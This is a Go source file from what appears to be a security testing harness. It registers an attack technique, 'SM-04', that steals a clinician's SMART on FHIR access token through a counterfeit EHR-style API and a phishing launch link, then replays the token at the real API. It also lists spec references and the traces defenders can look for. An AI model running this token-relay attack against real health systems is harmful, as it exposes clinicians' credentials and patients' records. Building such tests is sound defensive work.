package attacker

import (
	"context"
	"net/http"
	"net/url"
)

var _ = register("SM-04", Technique{
	Title: "A genuine token for a counterfeit API",
	Story: "The thief has an API of his own, registered like any, that looks like an EHR's and names the honest authorization server as its own. He sends a clinician a link " +
		"that opens an app there. She signs in where she always does, and the server gives the app a token; the app takes it to the thief's API, and he takes it to the real one.",
	Reads:    []string{"SMART App Launch 2.2, aud", "RFC 8707 s2", "RFC 9700 s4.9.1"},
	Evidence: "An authorization request for a launch that names an API with no patients; at the real API, the app's tokens from an unknown address.",
	Scene:    Scene{AppThere: true}, Model: []Class{A1},
	Run: func(ctx context.Context, g Ground) error {
		f := newFacade(g, g.Target().OwnAPI, g.Target().Issuer)
		if err := g.Lure(g.Target().AppLaunch + url.QueryEscape(f.base)); err != nil {
			return err
		}
		asked := f.asked()
		if asked == nil {
			return ErrStopped
		}
		c := &counterfeit{base: f.base}
		return c.forward(ctx, g, asked, func(*http.Request) {})
	},
})
